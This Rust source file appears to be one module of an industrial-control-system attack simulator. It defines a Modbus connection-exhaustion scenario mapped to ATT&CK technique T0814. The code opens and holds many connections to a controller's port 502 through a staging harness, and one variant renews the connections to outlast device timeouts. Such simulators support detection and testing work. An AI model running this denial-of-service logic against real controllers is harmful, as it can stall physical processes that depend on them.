//! Connection exhaustion: Modbus connections that are opened and held without a request. A controller
//! has few of them.

use super::{Attack, Needs, technique};
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "connection-exhaustion",
    about: "opens and holds all Modbus connections that a controller has",
    technique: technique("T0814"),
    acceptable: &["T0815", "T0813"],
    grade: "A",
    kind: "fast",
    proto: "tcp",
    variants: &["hold", "renew"],
    needs: Needs::Sockets,
    seconds: [1200, 180, 40],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let victim = stage.controller();
    let (count, pace, hold) = stage.by((16, 40.0, 560.0), (64, 0.5, 148.0), (200, 0.02, 36.0));
    let mut held = std::collections::VecDeque::new();
    for _ in 0..count {
        if let Ok(connection) = intruder.connect(victim, 502).await {
            held.push_back(connection);
        }
        stage.pause(pace).await;
    }
    // Devices close what says nothing for long; a tool opens anew before.
    let turns = if stage.is("renew") { count } else { 1 };
    for _ in 0..turns {
        stage.pause(hold / f64::from(turns)).await;
        if stage.is("renew") {
            held.pop_front();
            if let Ok(connection) = intruder.connect(victim, 502).await {
                held.push_back(connection);
            }
        }
    }
    drop(held);
    Ok(())
}
